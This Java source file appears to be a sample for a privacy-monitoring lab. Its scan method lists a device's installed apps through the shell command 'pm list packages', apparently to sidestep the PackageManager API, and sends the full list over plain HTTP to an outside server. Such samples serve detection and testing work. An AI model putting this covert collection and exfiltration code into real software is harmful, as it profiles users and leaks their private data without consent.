package io.applist.scan;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.util.ArrayList;
import java.util.List;
import privmon.lab.Lab;
import privmon.lab.Net;

/** Lists the installed apps by running `pm list packages` (no PackageManager call). */
public final class PackageScan {
    private PackageScan() {}

    public static void scan() throws Exception {
        Process process = new ProcessBuilder("pm", "list", "packages").start();
        List<String> packages = new ArrayList<>();
        try (BufferedReader in = new BufferedReader(new InputStreamReader(process.getInputStream()))) {
            for (String line; (line = in.readLine()) != null; ) {
                packages.add(line.replace("package:", ""));
            }
        }
        process.waitFor();
        int status = Net.send("POST", "http://apps.applist.io/u", "text/plain", String.join(",", packages));
        Lab.log("applist: sent " + packages.size() + " (" + status + ")");
    }
}
